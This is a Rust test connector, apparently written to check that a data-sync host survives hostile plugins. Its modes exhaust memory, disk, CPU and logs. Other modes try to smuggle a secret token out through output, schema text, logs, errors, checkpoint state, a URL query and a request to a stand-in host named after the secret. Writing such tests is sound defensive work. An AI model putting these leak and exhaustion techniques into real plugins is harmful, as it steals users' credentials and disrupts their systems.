//! A hostile connector for the host's hostile-plugin tests (issue 9): every call (`validate`,
//! `discover`, `sync`) does what `config.mode` asks, and the host must survive it, stop it, or
//! keep the secret `token` out of everything the plugin hands back.
//!
//! Config: `mode` (default `ok`), `url` (a destination declared as `{config.url}`), `n`, `bytes`.
//!
//! | mode | does |
//! | --- | --- |
//! | `ok` | `validate` → `{"ok":true}`, `discover` → the manifest's stream, `sync` emits `n` (10) records to `items` |
//! | `many_headers` | one `GET url` with `n` (40000) distinct headers `x-h-0`, `x-h-1`, …, then as `ok` (10 records) |
//! | `log_flood` | logs `bytes` (4096) long lines in a loop, never returns |
//! | `log_huge` | one log line of `bytes` (64 MiB) characters, then as `ok` |
//! | `disk_fill` | `sync` emits records of about `bytes` (4096) bytes, 100 per batch, until the host stops it; other calls as `ok` |
//! | `memory_fill` | grows a vector by 1 MiB steps, touching every page, until the host traps it |
//! | `spin` | a busy loop, never returns |
//! | `bad_batch` | `sync` emits `{"id":1}`, then the batch `[{"id":2}, [2]]` (refused: its 2nd record is no object) and ignores the error, then `{"id":3}`, and succeeds |
//! | `wide` | `discover` → `items` with `id` and `n` (20000) string columns `c0`, `c1`, …; `sync` emits `records` (400) records that fill every column with `"v"`, 50 per batch |
//!
//! Secret side doors: each reads secret `token` through `secrets.get` and tries to carry it out.
//! Calls not listed for a mode behave as `ok` (10 records); an HTTP error fails the call with the
//! host's error (`From<HttpError>`). An unknown mode is `invalid-config`.
//!
//! | mode | does |
//! | --- | --- |
//! | `secret_account` | `validate` → `{"leak": <secret>, <secret>: true}` |
//! | `secret_stream_name` | `discover` → stream `items_<secret>`; `sync` emits a record to it |
//! | `secret_schema` | `discover` → `items` with the secret in the stream description, the schema's `description`, a property's `description`, an `enum` value and a property name |
//! | `secret_query` | every call: `GET url?token=<secret>` (in the URL, not a secret header) |
//! | `secret_host` | every call: `GET https://<secret>.example.invalid/` (undeclared: must be denied) |
//! | `secret_log_field` | every call: a log line with a field named `<secret>`, and one whose message is the secret base64-encoded (standard alphabet, padded) then, after a space, percent-encoded |
//! | `secret_error` | every call fails with `internal` and a message containing the secret |
//! | `secret_state` | `sync` emits `{"id":1,"blob":<secret>}` to `items`, then checkpoints `{"cursor":<secret>}` |
//! | `secret_all` | as many of those as one run can take without failing early, see below |
//!
//! `secret_all`: every call does `secret_log_field`, then `secret_query` and `secret_host` with
//! their HTTP errors ignored. Then `validate` fails as `secret_error` (an error and an account
//! exclude each other: `secret_account` covers the account); `discover` answers as
//! `secret_schema` (not `secret_stream_name`: a host that refuses the name would end the run
//! before `sync`); `sync` does `secret_state` and succeeds, so the state gets committed.

use std::hint::black_box;

use serde::Deserialize;
use sluice_sdk::http::{Request, percent_encode};
use sluice_sdk::records::Batcher;
use sluice_sdk::{
    Connector, ConnectorError, Manifest, Result, StreamSpec, SyncRequest, Value, json, log,
    serde_json,
};

const STREAM: &str = "items";
const MODES: [&str; 18] = [
    "ok",
    "wide",
    "bad_batch",
    "many_headers",
    "log_flood",
    "log_huge",
    "disk_fill",
    "memory_fill",
    "spin",
    "secret_account",
    "secret_stream_name",
    "secret_schema",
    "secret_query",
    "secret_host",
    "secret_log_field",
    "secret_error",
    "secret_state",
    "secret_all",
];

pub struct Hostile;

#[derive(Debug, Default, Deserialize)]
#[serde(default)]
struct Config {
    mode: Option<String>,
    url: Option<String>,
    n: Option<u64>,
    bytes: Option<usize>,
    records: Option<u64>,
}

impl Config {
    fn parse(config: &Value) -> Result<Self> {
        let config: Self = sluice_sdk::parse_config(config)?;
        let mode = config.mode();
        if !MODES.contains(&mode) {
            return Err(ConnectorError::invalid_config(format!(
                "unknown mode {mode:?}"
            )));
        }
        Ok(config)
    }

    fn mode(&self) -> &str {
        self.mode.as_deref().unwrap_or("ok")
    }

    fn url(&self) -> Result<&str> {
        self.url
            .as_deref()
            .ok_or_else(|| ConnectorError::invalid_config("this mode needs `url`"))
    }
}

impl Connector for Hostile {
    fn manifest() -> Manifest {
        Manifest::new("hostile", "Hostile", env!("CARGO_PKG_VERSION"))
            .description("Test connector: each call attacks the host as its config asks.")
            .config_schema(&json!({
                "$schema": "https://json-schema.org/draft/2020-12/schema",
                "type": "object",
                "properties": {
                    "mode": {"type": "string"},
                    "url": {"type": "string"},
                    "n": {"type": "integer", "minimum": 0},
                    "bytes": {"type": "integer", "minimum": 0},
                    "records": {"type": "integer", "minimum": 0}
                }
            }))
            .secret("token", "The secret every side door tries to leak.", true)
            .host("{config.url}")
            .stream(items())
    }

    fn validate(config: Value) -> Result<Value> {
        let config = Config::parse(&config)?;
        every_call(&config)?;
        match config.mode() {
            "secret_account" => {
                let secret = token()?;
                let mut account = serde_json::Map::new();
                account.insert("leak".into(), json!(secret));
                account.insert(secret, json!(true));
                Ok(Value::Object(account))
            }
            "secret_all" => Err(secret_error()?),
            _ => Ok(json!({"ok": true})),
        }
    }

    fn discover(config: Value) -> Result<Vec<StreamSpec>> {
        let config = Config::parse(&config)?;
        every_call(&config)?;
        match config.mode() {
            "secret_stream_name" => {
                let mut stream = items();
                stream.name = format!("{STREAM}_{}", token()?);
                Ok(vec![stream])
            }
            "secret_schema" | "secret_all" => Ok(vec![secret_schema(&token()?)]),
            "wide" => Ok(vec![wide_schema(config.n.unwrap_or(WIDE_COLUMNS))]),
            _ => Ok(Self::manifest().streams),
        }
    }

    fn sync(request: SyncRequest) -> Result<()> {
        let config = Config::parse(&request.config)?;
        every_call(&config)?;
        let mut out = Batcher::new(100);
        match config.mode() {
            "disk_fill" => disk_fill(&mut out, config.bytes.unwrap_or(4096)),
            "wide" => wide_records(
                config.n.unwrap_or(WIDE_COLUMNS),
                config.records.unwrap_or(400),
            ),
            "bad_batch" => {
                let one = |id: u32| json!({ "id": id, "blob": "x" }).to_string();
                sluice_sdk::records::emit(STREAM, &[one(1)])?;
                // The error is ignored, as a careless connector would.
                let _ = sluice_sdk::records::emit(STREAM, &[one(2), "[2]".to_string()]);
                sluice_sdk::records::emit(STREAM, &[one(3)])
            }
            "secret_stream_name" => {
                let stream = format!("{STREAM}_{}", token()?);
                out.push(&stream, &json!({"id": 1, "blob": "x"}))?;
                out.flush()
            }
            "secret_state" | "secret_all" => {
                let secret = token()?;
                out.push(STREAM, &json!({"id": 1, "blob": secret}))?;
                out.checkpoint(STREAM, &json!({"cursor": secret}))
            }
            mode if request.selected(STREAM) => {
                let n = match mode {
                    "ok" => config.n.unwrap_or(10),
                    _ => 10,
                };
                for id in 1..=n {
                    out.push(STREAM, &json!({"id": id, "blob": format!("item-{id}")}))?;
                }
                out.checkpoint(STREAM, &json!({"cursor": n}))
            }
            _ => Ok(()),
        }
    }
}

sluice_sdk::export_connector!(Hostile);

/// The manifest's stream.
fn items() -> StreamSpec {
    StreamSpec::new(STREAM)
        .description("Numbered items with a blob.")
        .primary_key(&["id"])
        .json_schema(&json!({
            "type": "object",
            "properties": {
                "id": {"type": "integer"},
                "blob": {"type": "string"}
            }
        }))
}

/// Columns of mode `wide` unless `n` says.
const WIDE_COLUMNS: u64 = 20_000;

/// `items` with `id` and `columns` string columns `c0`, `c1`, ….
fn wide_schema(columns: u64) -> StreamSpec {
    let mut properties = serde_json::Map::new();
    properties.insert("id".into(), json!({"type": "integer"}));
    for k in 0..columns {
        properties.insert(format!("c{k}"), json!({"type": "string"}));
    }
    items().json_schema(&json!({"type": "object", "properties": properties}))
}

/// `records` records of `items` with every one of the `columns` columns set, 50 per batch.
fn wide_records(columns: u64, records: u64) -> Result<()> {
    let mut out = Batcher::new(50);
    use std::fmt::Write as _;
    let mut fields = String::new();
    for k in 0..columns {
        let _ = write!(fields, r#","c{k}":"v""#);
    }
    for id in 1..=records {
        out.push_json(STREAM, format!(r#"{{"id":{id}{fields}}}"#))?;
    }
    out.checkpoint(STREAM, &json!({"cursor": records}))
}

/// `items` with the secret in its description and all over its schema.
fn secret_schema(secret: &str) -> StreamSpec {
    let mut properties = serde_json::Map::new();
    properties.insert("id".into(), json!({"type": "integer"}));
    properties.insert(
        "blob".into(),
        json!({"type": "string", "description": format!("blob, not {secret}")}),
    );
    properties.insert(
        "kind".into(),
        json!({"type": "string", "enum": ["plain", secret]}),
    );
    properties.insert(secret.into(), json!({"type": "string"}));
    items()
        .description(format!("Items of {secret}."))
        .json_schema(&json!({
            "type": "object",
            "description": format!("leak: {secret}"),
            "properties": properties
        }))
}

/// What a mode does in every call, before the call's own answer.
fn every_call(config: &Config) -> Result<()> {
    match config.mode() {
        "many_headers" => {
            let mut request = Request::get(config.url()?);
            for i in 0..config.n.unwrap_or(40_000) {
                request = request.header(format!("x-h-{i}"), "1");
            }
            request.send()?;
        }
        "log_flood" => log_flood(config.bytes.unwrap_or(4096)),
        "log_huge" => log::info(&"x".repeat(config.bytes.unwrap_or(64 << 20)), &[]),
        "memory_fill" => memory_fill(),
        "spin" => spin(),
        "secret_query" => secret_query(config)?,
        "secret_host" => secret_host()?,
        "secret_log_field" => secret_logs()?,
        "secret_error" => return Err(secret_error()?),
        "secret_all" => {
            secret_logs()?;
            let _ = secret_query(config);
            let _ = secret_host();
        }
        _ => {}
    }
    Ok(())
}

fn token() -> Result<String> {
    sluice_sdk::secret("token")
}

fn secret_error() -> Result<ConnectorError> {
    Ok(ConnectorError::internal(format!(
        "upstream refused token {}",
        token()?
    )))
}

/// `GET url?token=<secret>`: the secret in the URL instead of a secret header.
fn secret_query(config: &Config) -> Result<()> {
    Request::get(config.url()?)
        .query("token", &token()?)
        .send()?;
    Ok(())
}

/// `GET https://<secret>.example.invalid/`: the secret in an undeclared host name.
fn secret_host() -> Result<()> {
    Request::get(format!("https://{}.example.invalid/", token()?)).send()?;
    Ok(())
}

/// A line with the secret as a field name; one with it base64- and percent-encoded.
fn secret_logs() -> Result<()> {
    let secret = token()?;
    log::info("hostile field", &[(&secret, "value")]);
    let encoded = format!("{} {}", base64(secret.as_bytes()), percent_encode(&secret));
    log::info(&encoded, &[]);
    Ok(())
}

/// Logs `bytes` long lines until the host stops the call.
fn log_flood(bytes: usize) -> ! {
    let line = "x".repeat(bytes);
    loop {
        log::info(&line, &[]);
    }
}

/// Emits records of about `bytes` bytes, 100 per batch, until an emit fails (the host's disk
/// quota) or the host stops the call.
fn disk_fill(out: &mut Batcher, bytes: usize) -> Result<()> {
    let blob = "x".repeat(bytes.saturating_sub(24));
    for id in 1u64.. {
        out.push_json(STREAM, format!(r#"{{"id":{id},"blob":"{blob}"}}"#))?;
    }
    Ok(())
}

/// Spins forever; the optimizer cannot remove the loop.
fn spin() -> ! {
    let mut n = 0u64;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

/// Allocates and touches 1 MiB chunks, keeping them all, until the allocation traps.
fn memory_fill() -> ! {
    let mut chunks: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        for byte in chunk.iter_mut().step_by(4096) {
            *byte = 1;
        }
        chunks.push(black_box(chunk));
        black_box(&chunks);
    }
}

/// Standard base64 (RFC 4648 §4), padded.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::with_capacity(bytes.len().div_ceil(3) * 4);
    for chunk in bytes.chunks(3) {
        let byte = |i: usize| u32::from(chunk.get(i).copied().unwrap_or(0));
        let n = (byte(0) << 16) | (byte(1) << 8) | byte(2);
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[(n >> (18 - 6 * i)) as usize & 63]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_matches_rfc_4648() {
        for (plain, encoded) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
            ("\u{ff}\u{fe}", "w7/Dvg=="),
        ] {
            assert_eq!(base64(plain.as_bytes()), encoded, "{plain:?}");
        }
    }

    #[test]
    fn modes_are_checked() {
        assert!(Config::parse(&json!({})).is_ok_and(|c| c.mode() == "ok" && c.n.is_none()));
        assert!(Config::parse(&json!({"mode": "secret_all"})).is_ok());
        assert!(Config::parse(&json!({"mode": "nope"})).is_err());
        assert!(Config::parse(&json!({"mode": ""})).is_err());
    }
}
